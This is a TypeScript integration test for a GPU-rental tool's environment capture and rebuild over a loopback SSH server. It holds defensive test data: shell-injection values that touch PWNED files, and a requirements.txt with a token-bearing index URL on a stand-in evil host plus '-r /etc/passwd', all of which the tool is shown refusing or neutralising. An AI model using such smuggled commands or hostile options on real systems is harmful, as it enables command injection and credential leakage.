// The environment capture/rebuild both front ends share (src/app/environment.ts) against a real
// OpenSSH server on loopback: a capture in the new folder format, one in the extension's old
// snapshot.json format and one in the CLI's old format all rebuild; an edited requirements.txt
// is what reaches the box; a hostile probed value runs nothing; pip options are refused before
// the box is touched; on a box with conda the fresh env gets exactly the checked words.
import { strict as assert } from 'node:assert';
import { appendFileSync, chownSync, mkdirSync, mkdtempSync, readFileSync, rmSync, statSync, writeFileSync, existsSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { capture, readCapture, rebuild, RebuildRefused, writeCapture, type EnvCapture } from '../../src/app/environment';
import { RemoteConnection } from '../../src/remote/connection';
import { followLog } from '../../src/remote/jobs';
import { runCli } from '../support/cli';
import { startSshd, type TestSshd } from '../support/sshd';

describe('app/environment against a real sshd', function () {
  this.timeout(240000);
  let sshd: TestSshd;
  let conn: RemoteConnection;
  let work: string;
  let env: NodeJS.ProcessEnv;
  let original: string;
  let captured: EnvCapture;
  const remote = () => [`${sshd.user}@127.0.0.1:${sshd.port}`, '--accept-new', '--identity', sshd.privateKeyPath];
  const boxFile = (rel: string) => readFileSync(join(sshd.home, rel), 'utf8');
  // Only inside what this test made (the box user's home, where every payload points): a PWNED
  // file some other program left in /tmp is not this test's business.
  const pwned = () => sshd.runAsUser('find "$HOME" -maxdepth 3 -name "PWNED*" 2>/dev/null; true').trim();

  async function finished(name: string): Promise<{ exitCode: number | null; log: string }> {
    let log = '';
    const done = await followLog(conn, `env-${name}`, { onData: (c) => (log += c.toString()) });
    return { exitCode: done.exitCode, log };
  }

  before(async () => {
    sshd = await startSshd({ nvidiaSmi: 'titanv_driver515.65.01_smi.txt' });
    work = mkdtempSync(join(tmpdir(), 'gpr-app-env-'));
    env = { GPU_RENT_KNOWN_HOSTS: join(work, 'known_hosts'), GPU_RENT_PASSWORD: '', SSH_AUTH_SOCK: '' };
    sshd.runAsUser('python3 -m venv "$HOME/srcenv"');
    appendFileSync(join(sshd.home, '.profile'), 'export PATH="$HOME/srcenv/bin:$PATH"\n');
    original = sshd.runAsUser('"$HOME/srcenv/bin/python" -m pip list --format=freeze');
    conn = new RemoteConnection(
      { host: sshd.host, port: sshd.port, user: sshd.user, identityFiles: [sshd.privateKeyPath], source: 'address', ignored: [] },
      { knownHostsPath: join(work, 'known_hosts'), acceptNew: true, agent: false, useDefaultKeys: false, opTimeoutMs: 30000 },
    );
    await conn.connect();
    captured = await capture(conn, { source: 'test-box', now: () => 1_800_000_000 });
  });

  after(async () => {
    conn?.close();
    await sshd?.stop();
    rmSync(work, { recursive: true, force: true });
  });

  it('a capture in the new folder format rebuilds into an env with the same packages', async () => {
    assert.equal(captured.driverVersion, '515.65.01');
    assert.match(captured.requirements, /^pip==/m);
    const dir = join(work, 'new');
    await writeCapture(dir, captured);
    const read = await readCapture(dir);
    assert.equal(read.format, 'gpu-rent-env@2');
    const started = await rebuild(conn, read, { envName: 'fromnew' });
    assert.equal(started.job.name, 'env-fromnew');
    const done = await finished('fromnew');
    assert.equal(done.exitCode, 0, done.log);
    assert.match(done.log, /gpu-rent: environment fromnew ready: .*\.gpu-rent\/venvs\/fromnew\/bin\/python/);
    assert.equal(sshd.runAsUser('"$HOME/.gpu-rent/venvs/fromnew/bin/python" -m pip list --format=freeze'), original);
    assert.equal(statSync(join(sshd.home, '.gpu-rent/env/fromnew/rebuild.sh')).mode & 0o777, 0o700);
    assert.equal(JSON.parse(boxFile('.gpu-rent/env/fromnew/gpu-rent-env.json')).version, 2);
  });

  it('a folder the old extension wrote (snapshot.json) rebuilds, with the user’s edited requirements.txt', async () => {
    const dir = join(work, '.gpu-rent', 'env', 'old-box');
    mkdirSync(dir, { recursive: true });
    writeFileSync(join(dir, 'snapshot.json'), JSON.stringify({ version: 1, ...captured }, null, 2) + '\n');
    writeFileSync(join(dir, 'requirements.txt'), '# trimmed by hand\npip>=1\n');
    const read = await readCapture(dir);
    assert.equal(read.format, 'snapshot@1');
    const r = await rebuild(conn, read, { envName: 'fromext' });
    assert.equal(r.requirements.kept, 1);
    assert.equal(boxFile('.gpu-rent/env/fromext/requirements.txt'), 'pip>=1\n', 'the edit is what reaches the box');
    const done = await finished('fromext');
    assert.equal(done.exitCode, 0, done.log);
    assert.match(done.log, /environment fromext ready/);
  });

  it("the launch's mirrors reach the rebuild job only: its env and a line sourced first (AutoDL's turbo), nothing else's", async () => {
    const dir = join(work, 'mirrored');
    mkdirSync(dir, { recursive: true });
    writeFileSync(join(dir, 'snapshot.json'), JSON.stringify({ version: 1, ...captured }, null, 2) + '\n');
    writeFileSync(join(dir, 'requirements.txt'), 'pip>=1\n');
    const turbo = join(sshd.home, 'turbo-for-rebuild');
    writeFileSync(turbo, 'export GPU_RENT_TURBO_SEEN=yes\n');
    chownSync(turbo, statSync(sshd.home).uid, statSync(sshd.home).gid);
    const r = await rebuild(conn, await readCapture(dir), { envName: 'mirrored', env: { PIP_INDEX_URL: 'http://127.0.0.1:9/simple/' }, before: `. '${turbo}'; printf '%s %s\\n' "$PIP_INDEX_URL" "$GPU_RENT_TURBO_SEEN" > "$HOME/mirror-seen"` });
    const done = await finished('mirrored');
    assert.equal(done.exitCode, 0, done.log);
    assert.equal(boxFile('mirror-seen'), 'http://127.0.0.1:9/simple/ yes\n');
    assert.match(r.script, /^#!/, 'the rebuild script itself is unchanged');
    assert.doesNotMatch(boxFile('.gpu-rent/env/mirrored/rebuild.sh'), /127\.0\.0\.1:9|turbo/);
  });

  it('the CLI rebuilds its own old format and the new one it writes now', () => {
    const oldDir = join(work, 'cli-old');
    mkdirSync(oldDir);
    const { requirements, environmentYml, ...facts } = captured;
    writeFileSync(join(oldDir, 'gpu-rent-env.json'), JSON.stringify({ version: 1, ...facts, requirements, environmentYml }, null, 2) + '\n');
    const old = runCli(['env', 'rebuild', ...remote(), '--from', oldDir, '--name', 'fromcliold'], { env, timeoutMs: 120000 });
    assert.equal(old.code, 0, old.stderr + old.stdout);
    assert.match(old.stdout, /environment fromcliold ready/);
    const newDir = join(work, 'cli-new');
    const cap = runCli(['env', 'capture', ...remote(), '--out', newDir], { env });
    assert.equal(cap.code, 0, cap.stderr);
    assert.equal(JSON.parse(readFileSync(join(newDir, 'gpu-rent-env.json'), 'utf8')).version, 2);
    writeFileSync(join(newDir, 'requirements.txt'), 'pip>=1\n');
    const again = runCli(['env', 'rebuild', ...remote(), '--from', newDir, '--name', 'fromclinew'], { env, timeoutMs: 120000 });
    assert.equal(again.code, 0, again.stderr + again.stdout);
    assert.match(again.stderr, /1 pip packages from requirements\.txt/);
    assert.equal(boxFile('.gpu-rent/env/fromclinew/requirements.txt'), 'pip>=1\n');
  });

  it('a hostile probed value runs nothing on the box: a bad Python version is refused, other values are inert', async () => {
    await assert.rejects(rebuild(conn, { ...captured, pythonVersion: '3;touch ~/PWNED;#.1' }, { envName: 'hostile' }), (e: unknown) => {
      assert.ok(e instanceof RebuildRefused);
      assert.match(e.message, /pythonVersion "3;touch ~\/PWNED;#\.1" is not a version/);
      return true;
    });
    assert.equal(existsSync(join(sshd.home, '.gpu-rent/env/hostile')), false, 'refused before anything was copied');
    assert.equal(existsSync(join(sshd.home, '.gpu-rent/jobs/env-hostile')), false);
    const inert = {
      ...captured,
      source: "box'$(touch ~/PWNED-source)`touch ~/PWNED-tick`\ntouch ~/PWNED-line #",
      condaEnv: '$(touch ~/PWNED-conda)',
      gpus: ['$(touch ~/PWNED-gpu)'],
      torch: '$(touch ~/PWNED-torch)',
      requirements: 'pip>=1\n',
    };
    const r = await rebuild(conn, inert, { envName: 'inert' });
    const done = await finished('inert');
    assert.equal(done.exitCode, 0, done.log);
    assert.equal(r.torch.kind, 'unknownRelease');
    assert.equal(pwned(), '', 'no PWNED file anywhere');
  });

  it('pip options in requirements.txt are refused before connecting; --allow-pip-options lets the user pass them', () => {
    const dir = join(work, 'opts');
    mkdirSync(dir);
    writeFileSync(join(dir, 'gpu-rent-env.json'), JSON.stringify({ format: 'gpu-rent-env', version: 2, ...captureFacts(captured) }, null, 2));
    writeFileSync(join(dir, 'requirements.txt'), 'pip>=1\n--extra-index-url https://tok:s3cret@evil.example.invalid/simple\n-r /etc/passwd\n');
    const r = runCli(['env', 'rebuild', ...remote(), '--from', dir, '--name', 'opts'], { env });
    assert.equal(r.code, 2, r.stderr);
    assert.match(r.stderr, /requirements\.txt line 2 has a URL with a password or token/);
    assert.match(r.stderr, /requirements\.txt line 3 is a pip option \(-r \/etc\/passwd\)/);
    assert.match(r.stderr, /--allow-pip-options/);
    assert.doesNotMatch(r.stderr, /s3cret/);
    assert.equal(existsSync(join(sshd.home, '.gpu-rent/env/opts')), false, 'nothing reached the box');
    // Confirmed: a harmless option goes through as written.
    writeFileSync(join(dir, 'requirements.txt'), 'pip>=1\n--no-index\n');
    const ok = runCli(['env', 'rebuild', ...remote(), '--from', dir, '--name', 'opts', '--allow-pip-options'], { env, timeoutMs: 120000 });
    assert.equal(ok.code, 0, ok.stderr + ok.stdout);
    assert.equal(boxFile('.gpu-rent/env/opts/requirements.txt'), 'pip>=1\n--no-index\n');
  });

  it('on a box with conda: a fresh env from the edited environment.yml, created with exactly the checked words', async () => {
    const uid = statSync(sshd.home).uid;
    const gid = statSync(sshd.home).gid;
    const bin = join(sshd.home, 'bin', 'conda');
    // A stand-in conda: records its words; `create` makes the env's python as a venv.
    writeFileSync(
      bin,
      [
        '#!/bin/sh',
        'case "$1 $2" in',
        '  "env export") printf "name: base\\nchannels:\\n  - defaults\\ndependencies:\\n  - python=3.11\\n  - pip:\\n    - pip>=1\\nprefix: /opt/conda\\n" ;;',
        '  "env list") echo "base  /opt/conda" ;;',
        '  "info --base") echo "$HOME/conda" ;;',
        '  "env update") printf "%s\\n" "$@" > "$HOME/conda-update-args" ;;',
        '  create*) printf "%s\\n" "$@" > "$HOME/conda-create-args"; python3 -m venv "$HOME/conda/envs/$4" ;;',
        '  *) exit 1 ;;',
        'esac',
        '',
      ].join('\n'),
      { mode: 0o755 },
    );
    chownSync(bin, uid, gid);
    try {
      const c = await capture(conn, { source: 'conda-box' });
      assert.match(c.environmentYml ?? '', /prefix: \/opt\/conda/);
      const dir = join(work, 'conda');
      await writeCapture(dir, c);
      writeFileSync(join(dir, 'environment.yml'), readFileSync(join(dir, 'environment.yml'), 'utf8').replace('  - defaults\n', '  - conda-forge\n'));
      const r = await rebuild(conn, await readCapture(dir), { envName: 'condaenv' });
      const done = await finished('condaenv');
      assert.equal(done.exitCode, 0, done.log);
      const pyMinor = c.pythonVersion!.split('.').slice(0, 2).join('.');
      assert.deepEqual(boxFile('conda-create-args').split('\n').slice(0, 5), ['create', '-y', '-n', 'condaenv', `python=${pyMinor}`]);
      assert.deepEqual(boxFile('conda-update-args').split('\n').slice(0, 5), ['env', 'update', '-n', 'condaenv', '-f']);
      const yml = boxFile('.gpu-rent/env/condaenv/environment.yml');
      assert.match(yml, /^name: condaenv\n/);
      assert.match(yml, /conda-forge/, 'the edit reached the box');
      assert.doesNotMatch(yml, /prefix:/);
      assert.match(done.log, /environment condaenv ready: .*conda\/envs\/condaenv\/bin\/python/);
      assert.equal(r.torch.kind, 'none');
    } finally {
      rmSync(bin, { force: true });
    }
  });
});

function captureFacts(c: EnvCapture) {
  const { requirements: _r, environmentYml: _e, ...facts } = c;
  return facts;
}
